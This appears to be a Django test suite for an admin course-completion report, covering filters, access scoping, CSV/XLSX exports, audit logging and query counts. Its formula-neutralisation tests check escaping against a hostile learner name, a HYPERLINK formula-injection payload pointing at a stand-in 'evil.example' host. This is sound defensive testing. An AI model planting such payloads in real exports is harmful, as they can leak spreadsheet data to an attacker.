"""The completion report: its rows against a hand-made world, its filters, who sees
which rows (in the page and in every export), and its exports."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from courses.authoring import AUTHORS
from learning.progress.models import Enrolment
from learning.progress.services import enrol
from learning.reports.exports import neutralise
from learning.reports.models import ExportStatus, ReportExport
from tests.factories import UserFactory, fresh, make_course

from .world import CSV_HEADINGS, NOW, World, clock_at

pytestmark = pytest.mark.django_db

REPORT = "/admin/reports/completion/"


@pytest.fixture(autouse=True)
def frozen_now(monkeypatch):
    monkeypatch.setattr(timezone, "now", lambda: NOW)


@pytest.fixture(scope="module")
def world(module_db):
    """Built once for the module's tests, on their frozen clock."""
    with clock_at(NOW):
        return World()


@pytest.fixture
def admin(db):
    return UserFactory(email="admin@example.org", is_superuser=True, is_staff=True)


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads the file as UTF-8
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    return rows


def keyed(rows):
    """Rows by (email, course), without those two columns."""
    return {
        (row["Email"], row["Course"]): {
            key: value for key, value in row.items() if key not in ("Email", "Course")
        }
        for row in rows
    }


def export_csv(client, query=""):
    response = client.get(f"{REPORT}?{query}&export=csv")
    assert response.status_code == 200, response
    assert response["Content-Type"].startswith("text/csv")
    return read_csv(response)


def emails_on_page(response):
    return {
        email
        for email in (
            "amina@example.org",
            "bruno@example.org",
            "chen@example.org",
            "dana@example.org",
            "eli@example.org",
            "fay@example.org",
        )
        if email in response.content.decode()
    }


# What the report says


def test_the_csv_export_holds_every_row_as_computed_by_hand(client, admin, world):
    client.force_login(admin)
    rows = export_csv(client)
    assert list(rows[0]) == CSV_HEADINGS
    assert keyed(rows) == world.expected_rows()


def test_the_xlsx_export_holds_the_same_rows_with_real_dates(client, admin, world):
    client.force_login(admin)
    response = client.get(f"{REPORT}?export=xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == CSV_HEADINGS
    rows = [dict(zip(CSV_HEADINGS, row, strict=True)) for row in values[1:]]
    by_email = {(row["Email"], row["Course"]): row for row in rows}
    assert len(by_email) == len(world.expected_rows())
    amina = by_email[("amina@example.org", "Data governance")]
    assert amina["Enrolled at (UTC)"] == NOW.replace(tzinfo=None) - timedelta(days=9)
    assert amina["Progress %"] == 100
    assert amina["Course score"] == 80.0
    assert amina["Certificate"] == world.amina_code
    eli = by_email[("eli@example.org", "Cloud strategy")]
    assert eli["Learner"].startswith("'=HYPERLINK(")  # text, never a formula
    assert eli["Progress %"] == 33


def test_the_page_shows_the_rows_with_their_status(client, admin, world):
    client.force_login(admin)
    response = client.get(REPORT)
    assert response.status_code == 200
    page = response.content.decode()
    assert emails_on_page(response) == {
        "amina@example.org",
        "bruno@example.org",
        "chen@example.org",
        "dana@example.org",
        "eli@example.org",
        "fay@example.org",
    }
    for label in ("Completed", "In progress", "Overdue", "Withdrawn or removed"):
        assert label in page
    assert f"{world.amina_code} (Valid)" in page
    assert f"{world.fay_code} (Revoked)" in page
    # Learner text is escaped in the admin too.
    assert (
        "&quot;http://evil.example" in page or "&#x27;" in page or "HYPERLINK" in page
    )
    assert '"http://evil.example/?x="&A1' not in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=completed", {"amina", "fay"}),
        ("status=overdue", {"chen"}),
        ("status=in_progress", {"bruno", "eli", "chen"}),
        ("status=withdrawn", {"dana"}),
        ("status=not_started", set()),
        ("topic={cloud}", {"chen", "dana", "eli"}),
        ("course={data}", {"amina", "bruno", "chen", "fay"}),
        ("organisation={undp}", {"amina", "bruno"}),  # UNCDF is below UNDP
        ("organisation={uncdf}", {"bruno"}),
        ("q=okafor", {"fay"}),
        ("q=CHEN@example", {"chen"}),
        ("enrolled_from=2026-03-05&enrolled_to=2026-03-08", {"bruno", "dana", "eli"}),
        ("due_to=2026-03-09", {"chen"}),
        ("completed_from=2026-03-01", {"amina"}),
    ],
)
def test_filters_and_search(client, admin, world, query, expected):
    from taggit.models import Tag

    client.force_login(admin)
    query = query.format(
        cloud=Tag.objects.get(name="cloud").pk,
        data=world.data.pk,
        undp=world.undp.pk,
        uncdf=world.uncdf.pk,
    )
    rows = export_csv(client, query)
    assert {row["Email"].split("@")[0] for row in rows} == expected
    page = client.get(f"{REPORT}?{query}")
    assert {email.split("@")[0] for email in emails_on_page(page)} == expected


def test_date_ranges_are_days_in_the_viewers_time_zone(client, admin, world):
    """Bruno enrolled at 09:00 UTC on 5 March: 4 March, 23:00 in Honolulu; Chen
    enrolled in Cloud strategy on 4 March, 09:00 UTC: 3 March there."""
    client.force_login(admin)
    on_4_march = "enrolled_from=2026-03-04&enrolled_to=2026-03-04"
    assert {row["Email"] for row in export_csv(client, on_4_march)} == {
        "chen@example.org"
    }
    admin.time_zone = "Pacific/Honolulu"
    admin.save()
    rows = export_csv(client, on_4_march)
    assert [row["Email"] for row in rows] == ["bruno@example.org"]
    assert rows[0]["Enrolled at (Pacific/Honolulu)"] == "2026-03-04 23:00"


def test_sorting_is_kept_in_the_export(client, admin, world):
    client.force_login(admin)
    rows = export_csv(client, "ordering=learner_name")
    names = [row["Learner"] for row in rows]
    assert names == sorted(names, key=str)
    rows = export_csv(client, "ordering=-progress")
    assert [row["Progress %"] for row in rows][:2] == ["100", "100"]


def test_pages_hold_fifty_rows(client, admin, world):
    course = make_course("Many learners")
    for _number in range(55):
        enrol(UserFactory(organisation=world.who), course, now=NOW)
    client.force_login(admin)
    response = client.get(REPORT)
    assert len(response.context["object_list"]) == 50
    assert "Page 1 of 2" in response.content.decode()


# Who sees which rows


def test_a_focal_point_sees_only_their_organisations_in_page_and_exports(client, world):
    focal = world.focal_point(world.undp)
    client.force_login(focal)
    expected = {
        key: row
        for key, row in world.expected_rows().items()
        if key[0] in ("amina@example.org", "bruno@example.org")
    }
    assert keyed(export_csv(client)) == expected
    assert emails_on_page(client.get(REPORT)) == {
        "amina@example.org",
        "bruno@example.org",
    }
    # XLSX too.
    response = client.get(f"{REPORT}?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == [
        "amina@example.org",
        "bruno@example.org",
    ]


@pytest.mark.parametrize(
    "query",
    [
        "organisation={who}",
        "organisation={unicef}",
        "organisation={who}&organisation={undp}",
        "organisation=999999",
        "organisation=abc",
        "course={cloud}",
        "q=chen",
        "q=who",
        "status=overdue",
        "status=withdrawn",
        "topic={cloud_tag}",
        "ordering=organisation",
        "learner={chen}",
        "learner__organisation={who}",
        "organisation__in={who}",
    ],
)
def test_a_focal_point_cannot_reach_other_organisations_by_any_parameter(
    client, world, query
):
    from taggit.models import Tag

    focal = world.focal_point(world.undp)
    client.force_login(focal)
    query = query.format(
        who=world.who.pk,
        unicef=world.unicef.pk,
        undp=world.undp.pk,
        cloud=world.cloud.pk,
        cloud_tag=Tag.objects.get(name="cloud").pk,
        chen=world.chen.pk,
    )
    page = client.get(f"{REPORT}?{query}")
    # 400: a filter value out of reach, refused with the filter's error.
    assert page.status_code in (200, 400)
    assert emails_on_page(page) <= {"amina@example.org", "bruno@example.org"}
    for export_format in ("csv", "xlsx"):
        response = client.get(f"{REPORT}?{query}&export={export_format}")
        if response.status_code == 400:  # a filter value out of reach: refused
            assert b"Nothing was exported" in response.content
            continue
        assert response.status_code == 200
        body = b"".join(response.streaming_content)
        for outsider in (b"chen@", b"dana@", b"eli@", b"fay@"):
            assert outsider not in body


def test_an_out_of_scope_organisation_is_refused_for_export_and_changes_nothing(
    client, world
):
    focal = world.focal_point(world.undp)
    client.force_login(focal)
    response = client.get(f"{REPORT}?organisation={world.who.pk}&export=csv")
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()
    assert not ReportExport.objects.exists()


def test_a_focal_point_of_two_organisations_sees_both(client, world):
    focal = world.focal_point(world.uncdf, world.who)
    client.force_login(focal)
    assert {row["Email"] for row in export_csv(client)} == {
        "bruno@example.org",
        "chen@example.org",
        "dana@example.org",
    }


def test_authors_and_learners_do_not_reach_the_report(client, world):
    author = UserFactory(groups=[AUTHORS])
    client.force_login(author)
    for url in (REPORT, f"{REPORT}?export=csv", f"{REPORT}results/"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"] == "/admin/"
    # A learner: no admin at all (a copy: logging in sets her last_login).
    client.force_login(fresh(world.amina))
    response = client.get(REPORT)
    assert response.status_code == 302
    assert "/login/" in response["Location"]
    client.logout()
    assert "/login/" in client.get(f"{REPORT}?export=csv")["Location"]
    assert not ReportExport.objects.exists()


def test_an_author_granted_the_report_sees_every_row(client, world):
    from django.contrib.auth.models import Permission

    author = UserFactory(groups=[AUTHORS])
    author.user_permissions.add(
        Permission.objects.get(codename="view_completion_report")
    )
    client.force_login(author)
    assert len(export_csv(client)) == len(world.expected_rows())


def test_the_reports_menu_offers_the_report_to_those_who_may_see_it(client, world):
    focal = world.focal_point(world.undp)
    client.force_login(focal)
    assert REPORT in client.get("/admin/").content.decode()
    client.force_login(UserFactory(groups=[AUTHORS]))
    assert REPORT not in client.get("/admin/").content.decode()


# Spreadsheet formulas


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Amina = Diallo", "Amina = Diallo"),
        ("", ""),
    ],
)
def test_formulas_are_neutralised(text, expected):
    assert neutralise(text) == expected


def test_hostile_text_in_every_text_column_is_neutralised(client, admin, world):
    unicef, cloud = fresh(world.unicef), fresh(world.cloud)  # the world's stay as built
    unicef.acronym = "@UNICEF"
    unicef.save()
    cloud.title = "-Cloud strategy"
    cloud.save_revision().publish()
    client.force_login(admin)
    eli = next(row for row in export_csv(client) if row["Email"] == "eli@example.org")
    assert eli["Organisation"] == "'@UNICEF"
    assert eli["Course"] == "'-Cloud strategy"
    assert eli["Learner"].startswith("'=")


# Audit


def test_every_export_is_in_the_audit_log(client, world):
    focal = world.focal_point(world.undp)
    client.force_login(focal)
    export_csv(client, f"organisation={world.uncdf.pk}&q=costa")
    export = ReportExport.objects.get()
    assert export.status == ExportStatus.STREAMED
    entry = ModelLogEntry.objects.get(action="reports.export")
    assert entry.user == focal
    assert entry.data["rows"] == 1
    assert entry.data["format"] == "csv"
    assert entry.data["filters"] == {
        "organisation": str(world.uncdf.pk),
        "q": "costa",
    }


# The query budget


def test_a_page_of_fifty_rows_costs_the_same_whatever_the_total(client, admin, world):
    course = make_course("Volume")
    client.force_login(admin)

    def queries_for_page():
        client.get(REPORT)  # warm caches (site, locale)
        with CaptureQueriesContext(connection) as queries:
            response = client.get(REPORT)
        assert len(response.context["object_list"]) == 50
        return len(queries)

    # The world's 7 rows and 50 more: two pages; 50 more, in another
    # organisation: three pages, and a cost that would show anything growing.
    for _ in range(50):
        enrol(UserFactory(organisation=world.who), course, now=NOW)
    with_fifty_seven = queries_for_page()
    for _ in range(50):
        enrol(UserFactory(organisation=world.undp), course, now=NOW)
    assert queries_for_page() == with_fifty_seven == 17


def test_the_rows_come_from_one_query(admin, world):
    from django.http import QueryDict

    from learning.reports.filters import CompletionReport
    from learning.reports.sources import completion_values

    rows = CompletionReport(admin, QueryDict(""), now=NOW).rows()
    with CaptureQueriesContext(connection) as queries:
        values = list(completion_values(rows))
    assert len(values) == Enrolment.objects.count()
    assert len(queries) == 1
